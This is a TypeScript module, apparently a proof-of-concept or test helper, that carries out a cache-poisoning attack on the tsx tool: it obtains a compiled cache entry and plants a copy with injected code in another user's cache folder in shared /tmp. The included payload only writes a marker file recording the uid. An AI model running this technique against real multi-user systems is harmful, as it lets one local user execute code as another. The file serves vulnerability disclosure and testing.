import { spawn } from "node:child_process";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

/**
 * The attack on tsx's transform cache, as another local user would make it.
 *
 * tsx keeps the JavaScript it compiled from each TypeScript file in `os.tmpdir()/tsx-<euid>`, a file named
 * `<time>-<key>` holding `{"code": …}`, where the key is a hash of the file's text, its path and the compile options
 * (privatenumber/tsx src/utils/temporary-directory.ts and src/utils/transform/cache.ts). It creates that folder with
 * `mkdirSync(…, { recursive: true })`, which accepts a folder someone else made first, and it runs whatever code a
 * matching file holds. Everything in the key is readable by any local user, so the attacker runs tsx on the same
 * files with a TMPDIR of their own, takes the entry tsx wrote for one file, prepends their own code, and leaves it in
 * the victim's folder, made in advance in the shared /tmp.
 */
export interface TsxRun {
  command: string;
  args: string[];
  cwd: string;
  env: NodeJS.ProcessEnv;
  /** Node IPC for runs that wait on it (the listener process); the run is disconnected once it reports. */
  ipc?: boolean;
}

export interface CacheEntry {
  fileName: string;
  content: { code: string } & Record<string, unknown>;
}

/** Runs `run` with the cache on in a fresh TMPDIR and returns the entry tsx wrote for `sourceFile`. */
export async function cacheEntryWrittenFor(run: TsxRun, sourceFile: string): Promise<CacheEntry> {
  const attackerTmp = await mkdtemp(join(tmpdir(), "tsx-attacker-"));
  try {
    const env: NodeJS.ProcessEnv = { ...run.env, TMPDIR: attackerTmp };
    delete env.TSX_DISABLE_CACHE;
    const child = spawn(run.command, run.args, { cwd: run.cwd, env, stdio: run.ipc ? ["ignore", "ignore", "pipe", "ipc"] : ["ignore", "ignore", "pipe"] });
    let stderr = "";
    child.stderr?.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    if (run.ipc) child.once("message", () => child.disconnect());
    const code = await new Promise<number | null>((resolve) => child.once("exit", resolve));
    if (code !== 0) throw new Error(`the attacker's tsx run exited ${code}: ${stderr}`);
    const folder = join(attackerTmp, `tsx-${process.geteuid?.() ?? 0}`);
    for (const fileName of await readdir(folder)) {
      const content = JSON.parse(await readFile(join(folder, fileName), "utf8")) as CacheEntry["content"];
      const sources = (content.map as { sources?: string[] } | undefined)?.sources ?? [];
      if (sources.includes(sourceFile)) return { fileName, content };
    }
    throw new Error(`tsx wrote no cache entry for ${sourceFile}`);
  } finally {
    await rm(attackerTmp, { recursive: true, force: true });
  }
}

/** Leaves `entry`, with `payload` run before the file's own code, in the victim's cache folder. */
export async function plantCacheEntry(victimCacheFolder: string, entry: CacheEntry, payload: string): Promise<string> {
  await mkdir(victimCacheFolder, { recursive: true, mode: 0o755 });
  const path = join(victimCacheFolder, entry.fileName);
  await writeFile(path, JSON.stringify({ ...entry.content, code: `${payload}\n${entry.content.code}` }), { mode: 0o644 });
  return path;
}

/** Code that records, in `marker`, that it ran and as whom. */
export function markerPayload(marker: string): string {
  return `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "planted code ran as uid " + process.getuid());`;
}
